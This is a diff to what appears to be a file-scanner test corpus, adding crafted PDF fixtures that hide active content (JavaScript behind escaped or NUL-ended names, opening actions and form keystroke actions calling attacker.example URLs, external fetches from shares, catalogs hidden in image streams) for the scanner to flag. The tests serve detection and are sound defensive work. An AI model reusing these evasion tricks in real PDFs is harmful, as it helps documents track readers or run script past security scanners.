@@ -80,6 +80,7 @@ import {
   bigImage,
   buildClassicPdf,
   buildPdf,
+  directRootPdf,
   escapeNames,
   handwrittenPages,
   handwrittenPdf,
@@ -90,7 +91,10 @@ import {
   outlineItem,
   type Packing,
   pageObjects,
+  packedUnderAnotherNumberPdf,
   type PdfObj,
+  predictorByReferencePdf,
+  rebuiltFromStreamDataPdf,
   utf16Hex,
 } from '../../fixtures/active-pdf.ts';
 import { buildZip, docxEntries, MiB, windowsExecutable } from '../../fixtures/files.ts';
@@ -569,6 +573,99 @@ const linkPdfs: CorpusItem[] = [
   ),
 ];
 
+/** A file specification by URL (`/FS /URL`), as PDF text. */
+const URL_SPEC = '<< /FS /URL /F (http://attacker.example/x.pdf) >>';
+
+/** The page objects with a form XObject (6) on the page whose dictionary holds `extra`. */
+const pageWithForm = (extra: string): PdfObj[] => [
+  ...pageObjects('', '/Resources << /XObject << /X1 6 0 R >> >>'),
+  { num: 6, body: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] ${extra}`, stream: Buffer.from('0 0 m') },
+];
+
+const hunted = (id: string, expect: FindingCode, bytes: () => Buffer): CorpusItem => ({
+  id,
+  category: 'PDF active content a reader acts on',
+  declared: 'pdf',
+  bytes: async () => bytes(),
+  expect,
+});
+
+/** Classes hunted for one by one: each fetched, opened, played or run by a reader, some once marked VALID. */
+const huntedPdfs: CorpusItem[] = [
+  // A reference XObject: the reader fetches the other file's page to draw this one, with no click.
+  hunted('pdf-reference-xobject-share', 'PDF_ACTION', () =>
+    buildClassicPdf(pageWithForm(`/Ref << /F ${UNC_FILE} /Page 0 >>`)),
+  ),
+  hunted('pdf-reference-xobject-url-spec', 'PDF_ACTION', () =>
+    buildPdf(pageWithForm(`/Ref << /F ${URL_SPEC} /Page 0 >>`)),
+  ),
+  // A name ended by #00: `/JavaScript` to a reader that keeps names as C strings.
+  hunted('pdf-name-ended-by-nul', 'PDF_SCRIPT', () =>
+    buildClassicPdf([
+      ...pageObjects('/OpenAction 6 0 R'),
+      { num: 6, body: '<< /S /JavaScript#00 /JS#00 (app.alert(1)) >>' },
+    ]),
+  ),
+  // Filter parameters by reference: read without them, each PNG row's tag byte splits the names.
+  hunted('pdf-objstm-predictor-by-reference', 'PDF_UNREADABLE', predictorByReferencePdf),
+  // The cross-reference stream calls the packed object 6 (an opening /URI to pdf.js); its pairs, 7.
+  hunted('pdf-objstm-pair-numbered-otherwise', 'PDF_UNREADABLE', packedUnderAnotherNumberPdf),
+  // The catalog in place in the trailer, which pdf.js reads: its opening action calls out.
+  hunted('pdf-trailer-catalog-openaction-uri', 'PDF_ACTION', () =>
+    directRootPdf('/OpenAction << /S /URI /URI (http://attacker.example/track) >>'),
+  ),
+  // A /Root pdf.js cannot fetch as the table says: it rebuilds from all bytes, and finds a catalog hidden in an image.
+  hunted('pdf-root-generation-hidden-catalog', 'PDF_UNREADABLE', () => rebuiltFromStreamDataPdf('/Root 1 1 R')),
+  hunted('pdf-no-root-hidden-catalog', 'PDF_UNREADABLE', () => rebuiltFromStreamDataPdf(' '.repeat(11))),
+  hunted('pdf-javascript-tree-through-kids-escaped', 'PDF_SCRIPT', () =>
+    buildPdf(
+      [
+        ...pageObjects('/Names << /Java#53cript 6 0 R >>'),
+        { num: 6, body: '<< /Kids [7 0 R] >>' },
+        { num: 7, body: '<< /Names [(a) 8 0 R] /Limits [(a) (a)] >>' },
+        { num: 8, body: '<< /S /J#61vaScript /J#53 (app.alert(1)) >>' },
+      ],
+      { packed: [1, 6, 7, 8] },
+    ),
+  ),
+  hunted('pdf-gotoe-embedded-target', 'PDF_ACTION', () =>
+    buildClassicPdf(linkAnnotations('<< /S /GoT#6FE /T << /R /C /N (a.pdf) >> >>')),
+  ),
+  hunted('pdf-thread-into-share', 'PDF_ACTION', () =>
+    buildClassicPdf(linkAnnotations(`<< /S /Thread /F ${UNC_FILE} /D 0 >>`)),
+  ),
+  hunted('pdf-sound-annotation-external', 'PDF_ACTION', () =>
+    buildClassicPdf([
+      ...pageObjects('', '/Annots [6 0 R]'),
+      { num: 6, body: `<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound << /R 8000 /F ${UNC_FILE} >> >>` },
+    ]),
+  ),
+  hunted('pdf-richmedia-external-asset', 'PDF_SCRIPT', () =>
+    buildPdf(
+      [
+        ...pageObjects('', '/Annots [6 0 R]'),
+        {
+          num: 6,
+          body: `<< /Type /Annot /Subtype /Rich#4Dedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(v.swf) ${URL_SPEC}] >> >> >>`,
+        },
+      ],
+      { packed: [6] },
+    ),
+  ),
+  hunted('pdf-field-keystroke-aa-escaped', 'PDF_ACTION', () =>
+    buildPdf(
+      [
+        ...pageObjects('/AcroForm << /Fields [6 0 R] >>', '/Annots [6 0 R]'),
+        {
+          num: 6,
+          body: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /#41#41 << /K << /S /URI /URI (http://attacker.example/k) >> >> >>',
+        },
+      ],
+      { packed: [6], packing: 'lzw' },
+    ),
+  ),
+];
+
 /** PDFs whose structure cannot be read whole. */
 const unreadablePdfs: CorpusItem[] = [
   {
@@ -657,6 +754,7 @@ const unreadablePdfs: CorpusItem[] = [
   },
   ...readerPdfs,
   ...linkPdfs,
+  ...huntedPdfs,
 ];
 
 // ── OOXML ────────────────────────────────────────────────────────────────────────────────
